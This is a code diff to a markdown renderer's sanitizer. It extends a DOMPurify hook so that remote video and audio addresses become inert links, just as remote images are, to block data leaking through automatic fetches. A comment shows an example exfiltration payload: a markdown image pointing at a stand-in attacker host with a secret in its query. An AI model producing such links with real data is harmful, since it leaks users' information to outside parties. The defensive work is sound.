@@ -13,6 +13,8 @@ if (hljs) hljs.configure({ ignoreUnescapedHTML: true });
 // click. `srcset` is forbidden outright: markdown never writes it, and a list of addresses
 // is one more thing to get wrong.
 const FETCHED_ATTRS = ["src", "poster", "background"];
+// Players that fetch their src and poster, and those of the sources inside them, on sight.
+const MEDIA_TAGS = new Set(["VIDEO", "AUDIO", "SOURCE", "TRACK"]);
 
 /** Whether the browser may fetch url by itself: an address on this site, or a data: URL. */
 function isLocalAddress(url) {
@@ -31,24 +33,48 @@ function isLocalAddress(url) {
  * anything it read into that address (`![x](https://evil.example/?q=<secret>)`).
  */
 function remoteImageLink(img, src) {
-  const doc = img.ownerDocument;
+  return remoteLink(img, src, "remote-image", img.getAttribute("alt") || "image", "image");
+}
+
+/** The same for a video or audio player: a link for each remote address it would load. */
+function remoteMediaLinks(player, addresses) {
+  const kind = player.tagName === "AUDIO" ? "audio" : "video";
+  const links = player.ownerDocument.createElement("span");
+  for (const src of addresses) links.append(remoteLink(player, src, "remote-media", kind, kind), " ");
+  return links;
+}
+
+function remoteLink(node, src, kind, description, what) {
+  const doc = node.ownerDocument;
   // Inside a link already (`[![x](img)](url)`), a second link would be torn apart.
-  const link = doc.createElement(img.closest("a") ? "span" : "a");
-  link.className = "remote-image";
+  const link = doc.createElement(node.closest("a") ? "span" : "a");
+  link.className = kind;
   if (link.tagName === "A") {
     link.setAttribute("href", src);
     link.setAttribute("target", "_blank");
     link.setAttribute("rel", "noopener noreferrer");
   }
-  link.setAttribute("title", "A remote image, not loaded");
+  link.setAttribute("title", `A remote ${what}, not loaded`);
   const alt = doc.createElement("span");
-  alt.className = "remote-image-alt";
-  alt.textContent = img.getAttribute("alt") || "image";
+  alt.className = `${kind}-alt`;
+  alt.textContent = description;
   const address = doc.createElement("span");
-  address.className = "remote-image-url";
+  address.className = `${kind}-url`;
   address.textContent = src;
   link.append(alt, " ", address);
   return link;
+}
+
+/** The remote addresses a player (or a source of one) would fetch by itself. */
+function remoteMedia(node) {
+  const found = [];
+  for (const part of [node, ...node.querySelectorAll("source, track")]) {
+    for (const name of ["src", "poster"]) {
+      const value = part.getAttribute(name);
+      if (value !== null && !isLocalAddress(value)) found.push(value);
+    }
+  }
+  return found;
 }
 
 if (DOMPurify) {
@@ -63,6 +89,14 @@ if (DOMPurify) {
     if (node.tagName === "IMG" && src !== null && !isLocalAddress(src)) {
       node.replaceWith(remoteImageLink(node, src));
       return;
+    }
+    // Players the same, with what their sources would load.
+    if (MEDIA_TAGS.has(node.tagName)) {
+      const remote = remoteMedia(node);
+      if (remote.length) {
+        node.replaceWith(remoteMediaLinks(node, remote));
+        return;
+      }
     }
     for (const name of FETCHED_ATTRS) {
       const value = node.getAttribute(name);
